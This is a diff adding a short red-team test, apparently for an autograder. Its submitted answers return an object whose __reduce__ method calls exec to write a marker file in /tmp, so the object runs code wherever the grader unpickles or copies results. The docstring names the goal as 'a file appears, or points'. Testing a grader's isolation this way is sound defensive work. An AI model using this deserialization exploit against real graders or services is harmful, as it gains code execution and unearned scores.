@@ -1,0 +1,17 @@
+"""What a function returns runs code where it is unpacked.
+
+Success: a file appears, or points.
+"""
+
+
+def attack(submission):
+    submission.first("""
+        class Evil:
+            def __reduce__(self):
+                return exec, ("open('/tmp/red-team-was-here', 'w').write('x')",)
+            __getstate__ = __copy__ = lambda self: self
+            __reduce_ex__ = lambda self, version: self.__reduce__()
+    """)
+    for name in ("square", "standardize", "primes", "words"):
+        submission.answer(name, f"def {name}(*a):\n    return Evil()")
+    submission.answer("total", "total = Evil()")
